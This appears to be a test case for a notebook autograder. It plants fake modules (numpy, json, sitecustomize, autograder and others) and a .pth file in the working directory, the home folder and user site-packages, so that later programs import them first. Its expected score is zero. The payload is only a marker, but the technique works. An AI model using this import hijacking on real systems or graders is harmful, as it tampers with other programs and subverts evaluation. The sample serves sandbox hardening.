# Leaves modules beside the notebook and in the home folder that a later program may import first.
# expect: points all 0
# %% first
import os, pathlib, site, subprocess, sys

code = "print('hit' * 3)\nimport builtins; builtins.hostile_was_here = True\n"
places = [pathlib.Path.cwd(), pathlib.Path.home(), pathlib.Path(site.getusersitepackages())]
for place in places:
    for name in ("numpy", "keras", "json", "sitecustomize", "usercustomize", "autograder"):
        try:
            place.mkdir(parents=True, exist_ok=True)
            (place / f"{name}.py").write_text(code)
            (place / "hostile.pth").write_text("import builtins")
        except OSError:
            pass
